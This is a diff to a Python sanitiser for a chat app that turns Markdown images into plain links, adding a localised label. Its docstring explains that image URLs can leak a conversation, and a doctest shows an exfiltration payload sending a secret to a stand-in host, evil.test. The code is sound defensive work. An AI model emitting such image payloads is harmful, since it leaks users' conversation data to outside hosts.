@@ -2,7 +2,8 @@
 
 A Markdown image (`![alt](https://host/x.png?data=...)`) would make every viewer's browser
 request that URL on sight, a way to leak the conversation. Images become plain links, which
-fetch nothing unless clicked. Streamlit already escapes raw HTML such as `<img>`.
+fetch nothing unless clicked. Streamlit already escapes raw HTML such as `<img>`. The chat
+passes `label` in the visitor's language.
 
 >>> safe_markdown("see ![a cat](http://evil.test/p.png?q=secret) now")
 'see [image: a cat](http://evil.test/p.png?q=secret) now'
@@ -16,5 +17,5 @@ import re
 _IMAGE = re.compile(r"(?<!\\)!\[")
 
 
-def safe_markdown(text: str) -> str:
-    return _IMAGE.sub("[image: ", text)
+def safe_markdown(text: str, label: str = "image") -> str:
+    return _IMAGE.sub(lambda _: f"[{label}: ", text)  # a function: the label is not a regex template
